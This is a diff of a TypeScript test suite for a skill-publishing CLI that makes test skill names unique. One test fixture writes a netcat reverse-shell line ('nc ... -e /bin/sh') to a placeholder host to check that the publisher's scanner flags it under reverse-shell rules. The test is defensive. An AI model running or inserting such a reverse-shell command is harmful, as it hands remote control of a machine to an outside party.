@@ -2,6 +2,7 @@
 // missing files, and never overwrites what somebody else published in the meantime.
 // readme: npm run skills:publish
 
+import { randomUUID } from 'node:crypto'
 import { rmSync, writeFileSync } from 'node:fs'
 import { createServer, type Server } from 'node:http'
 import type { AddressInfo } from 'node:net'
@@ -26,6 +27,8 @@ afterEach(async () => {
   rmSync(folder, { recursive: true, force: true })
 })
 
+/** A name that no earlier attempt of the test published. */
+const fresh = (name: string): string => `${name}-${randomUUID().slice(0, 8)}`
 const write = (path: string, text: string): void => put(join(folder, path), text)
 
 interface Ran {
@@ -103,7 +106,7 @@ async function standBefore(
 }
 
 test('publishes three skills in one catalog version, and changes nothing the second time', async () => {
-  const names = ['p-one', 'p-two', 'p-three']
+  const names = ['p-one', 'p-two', 'p-three'].map(fresh)
   const changes = () => Promise.all(names.map(changesOf))
   for (const name of names) {
     write(`${name}/SKILL.md`, md(name))
@@ -119,7 +122,7 @@ test('publishes three skills in one catalog version, and changes nothing the sec
   expect(done, done.out).toMatchObject({ status: 0 })
   const version = Number(/catalog version (\d+) is live/.exec(done.out)?.[1])
   expect(await changes()).toEqual([[version], [version], [version]])
-  expect(await live('p-two')).toMatchObject({ category: 'custom' })
+  expect(await live(names[1] ?? '')).toMatchObject({ category: 'custom' })
   const again = await publish(folder, '--yes')
   expect(again, again.out).toMatchObject({ status: 0, out: expect.stringContaining('Nothing to publish') })
   expect(await changes()).toEqual([[version], [version], [version]])
@@ -133,35 +136,35 @@ test('publishes nothing without a terminal and --yes, and says how to', async ()
 })
 
 test('shows a change by file and line, as JSON too, and unpublishes in the same version', async () => {
-  write('p-old/SKILL.md', md('p-old'))
-  write('p-diff/SKILL.md', md('p-diff', 'The first line.'))
-  write('p-diff/gone.md', 'gone')
+  const [old, diff] = [fresh('p-old'), fresh('p-diff')]
+  write(`${old}/SKILL.md`, md(old))
+  write(`${diff}/SKILL.md`, md(diff, 'The first line.'))
+  write(`${diff}/gone.md`, 'gone')
   await publish(folder, '--yes')
-  const was = await live('p-diff')
-  rmSync(join(folder, 'p-old'), { recursive: true })
-  rmSync(join(folder, 'p-diff/gone.md'))
-  write('p-diff/SKILL.md', md('p-diff', 'The second line.'))
-  write('p-diff/new.md', 'new')
-  const shown = await publish(folder, '--dry-run', '--diff', '--unpublish', 'p-old')
+  const was = await live(diff)
+  rmSync(join(folder, old), { recursive: true })
+  rmSync(join(folder, `${diff}/gone.md`))
+  write(`${diff}/SKILL.md`, md(diff, 'The second line.'))
+  write(`${diff}/new.md`, 'new')
+  const shown = await publish(folder, '--dry-run', '--diff', '--unpublish', old)
   for (const text of [
     '~ SKILL.md',
     '+ new.md',
     '- gone.md',
     '-The first line.',
     '+The second line.',
-    'unpublish   p-old',
+    `unpublish   ${old}`,
   ])
     expect(shown.out).toContain(text)
-  const done = await publish(folder, '--json', '--yes', '--unpublish', 'p-old')
+  const done = await publish(folder, '--json', '--yes', '--unpublish', old)
   const output = JSON.parse(done.out) as { readonly catalog_version: number }
-  for (const name of ['p-old', 'p-diff'])
-    expect((await changesOf(name))[0], name).toBe(output.catalog_version)
+  for (const name of [old, diff]) expect((await changesOf(name))[0], name).toBe(output.catalog_version)
   expect(output).toMatchObject({
     published: true,
-    unpublished: ['p-old'],
-    skills: [{ name: 'p-diff', state: 'changed', live: was?.digest }],
+    unpublished: [old],
+    skills: [{ name: diff, state: 'changed', live: was?.digest }],
   })
-  expect(await live('p-old')).toBeNull()
+  expect(await live(old)).toBeNull()
 })
 
 test('publishes an archive like a folder', async () => {
@@ -183,19 +186,20 @@ test('an error in one skill refuses all, with file and line, before anything is 
 })
 
 test('the server decides about acceptable errors: a reason accepts one, and is kept for the same file', async () => {
-  write('p-shell/SKILL.md', md('p-shell'))
-  write('p-shell/a.sh', 'nc a.example.org 1 -e /bin/sh\n')
-  write('p-plain/SKILL.md', md('p-plain'))
+  const [shell, plain] = [fresh('p-shell'), fresh('p-plain')]
+  write(`${shell}/SKILL.md`, md(shell))
+  write(`${shell}/a.sh`, 'nc a.example.org 1 -e /bin/sh\n')
+  write(`${plain}/SKILL.md`, md(plain))
   const refused = await publish(folder, '--yes')
   expect(refused).toMatchObject({
     status: 1,
-    out: expect.stringMatching(/p-shell\/a\.sh:1: .*--accept shell-reverse-shell=REASON/),
+    out: expect.stringMatching(/p-shell-\w+\/a\.sh:1: .*--accept shell-reverse-shell=REASON/),
   })
   const idle = await publish(folder, '--yes', '--accept', 'python-reverse-shell=x')
   expect(idle).toMatchObject({ status: 1, out: expect.stringContaining('no error of this rule was found') })
   const done = await publish(folder, '--yes', '--accept', 'shell-reverse-shell=Taught here')
   expect(done, done.out).toMatchObject({ status: 0, out: expect.stringContaining('Accepted: Taught here') })
-  write('p-shell/SKILL.md', md('p-shell', 'Another body.'))
+  write(`${shell}/SKILL.md`, md(shell, 'Another body.'))
   const again = await publish(folder, '--yes')
   expect(again, again.out).toMatchObject({ status: 0, out: expect.stringContaining('Accepted: Taught here') })
 })
@@ -212,22 +216,23 @@ test('text that is not UTF-8 refuses all, with its file', async () => {
 })
 
 test('a server that fails during the upload publishes nothing; the second run sends only the rest', async () => {
-  write('p-cut/SKILL.md', md('p-cut'))
-  for (let at = 0; at < 20; at++) write(`p-cut/references/${at}.md`, `page ${at} of p-cut`)
+  const name = fresh('p-cut')
+  write(`${name}/SKILL.md`, md(name))
+  for (let at = 0; at < 20; at++) write(`${name}/references/${at}.md`, `page ${at} of ${name}`)
   let puts = 0
   api = await standBefore((line) => (line.startsWith('PUT ') && ++puts > 8 ? 500 : null))
   const cut = await publish(folder, '--yes')
   expect(cut.status, cut.out).toBe(1)
   expect(cut.out).toContain('Nothing was published')
-  expect(await live('p-cut')).toBeNull()
-  expect(await changesOf('p-cut')).toEqual([])
+  expect(await live(name)).toBeNull()
+  expect(await changesOf(name)).toEqual([])
   await api.close()
 
   api = await standBefore(() => null)
   const done = await publish(folder, '--yes')
   expect(done.status, done.out).toBe(0)
   expect(api.seen.filter((line) => line.startsWith('PUT '))).toHaveLength(21 - 8)
-  expect(await live('p-cut')).not.toBeNull()
+  expect(await live(name)).not.toBeNull()
 })
 
 test('retries a busy server while it sends Retry-After', async () => {
@@ -244,8 +249,9 @@ test('retries a busy server while it sends Retry-After', async () => {
 })
 
 test('does not overwrite what somebody published between the dry run and the commit', async () => {
-  write('p-race/SKILL.md', md('p-race', 'ours'))
-  const theirs = { files: { 'SKILL.md': md('p-race', 'theirs') } }
+  const name = fresh('p-race')
+  write(`${name}/SKILL.md`, md(name, 'ours'))
+  const theirs = { files: { 'SKILL.md': md(name, 'theirs') } }
   api = await standBefore(async (line) => {
     if (line === 'POST /admin/catalog/commit') {
       const sent = await satchel.client.json('POST', '/admin/skills', theirs)
@@ -256,23 +262,24 @@ test('does not overwrite what somebody published between the dry run and the com
   const ran = await publish(folder, '--yes')
   expect(ran.status, ran.out).toBe(1)
   expect(ran.out).toContain('in the meantime')
-  const file = await satchel.client.bytes('/admin/skills/p-race/files/SKILL.md')
+  const file = await satchel.client.bytes(`/admin/skills/${name}/files/SKILL.md`)
   expect(file.ok && new TextDecoder().decode(file.value)).toContain('theirs')
 })
 
 test('recognizes its commit after a lost response, and does not repeat it', async () => {
-  write('p-lost/SKILL.md', md('p-lost'))
+  const name = fresh('p-lost')
+  write(`${name}/SKILL.md`, md(name))
   let lost = false
   api = await standBefore(async (line) => {
     if (line !== 'POST /admin/catalog/commit' || lost) return null
     lost = true
-    const sent = await satchel.client.json('POST', '/admin/skills', { files: { 'SKILL.md': md('p-lost') } })
+    const sent = await satchel.client.json('POST', '/admin/skills', { files: { 'SKILL.md': md(name) } })
     expect(sent.ok).toBe(true)
     return 502
   })
   const ran = await publish(folder, '--yes')
   expect(ran.status, ran.out).toBe(0)
-  expect(await changesOf('p-lost')).toHaveLength(1)
+  expect(await changesOf(name)).toHaveLength(1)
 })
 
 test('explains a wrong key, a wrong URL and wrong arguments, and prints no key', async () => {
